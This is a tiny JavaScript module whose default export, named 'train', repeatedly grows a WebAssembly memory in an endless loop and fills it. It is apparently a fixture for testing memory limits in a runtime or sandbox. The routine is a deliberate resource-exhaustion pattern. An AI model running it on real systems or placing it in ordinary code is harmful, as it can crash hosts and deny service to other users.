export default function train() {
  const memory = new WebAssembly.Memory({ initial: 1, maximum: 60000 });
  for (;;) {
    const pages = memory.grow(256);
    new Uint8Array(memory.buffer).fill(1, pages * 65536);
  }
}
